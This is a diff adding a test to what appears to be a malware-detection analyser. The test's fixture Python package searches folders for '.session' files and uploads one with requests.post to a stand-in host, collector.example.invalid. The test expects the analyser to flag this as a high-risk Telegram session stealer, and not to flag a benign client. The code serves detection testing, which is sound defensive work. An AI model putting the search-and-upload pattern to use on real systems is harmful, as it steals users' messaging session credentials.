@@ -180,3 +180,32 @@ test('a keylogger and an autostart entry in different files join to high; either
   const alone = await analyse({ 'demo/keys.py': keylogger });
   assert.ok(!atLeast(alone.risk, 'high'), alone.reasons.join(' | '));
 });
+
+test('a function that searches folders for *.session files and a network upload elsewhere are a session stealer', async () => {
+  const target = await analyseFiles({
+    'pkg/__init__.py': '',
+    'pkg/find.py': [
+      'import os',
+      'def find(dirs):',
+      '    for d in dirs:',
+      '        for name in os.listdir(d):',
+      "            if name.endswith('.session'):",
+      '                return os.path.join(d, name)',
+    ].join('\n'),
+    'pkg/send.py':
+      'import requests\ndef send(path):\n    requests.post("http://collector.example.invalid/up", files={"f": open(path, "rb")})\n',
+  });
+  assert.equal(target.risk, 'high');
+  assert.ok(target.reasons.some((reason) => /Telegram session/.test(reason)));
+  const client = await analyseFiles({
+    'pkg/client.py': [
+      'import requests',
+      'def open_session(name):',
+      "    path = name if name.endswith('.session') else name + '.session'",
+      '    return open(path, "rb")',
+      'def call(url):',
+      '    return requests.get(url)',
+    ].join('\n'),
+  });
+  assert.notEqual(client.risk, 'high', 'a client opening the session its user names');
+});
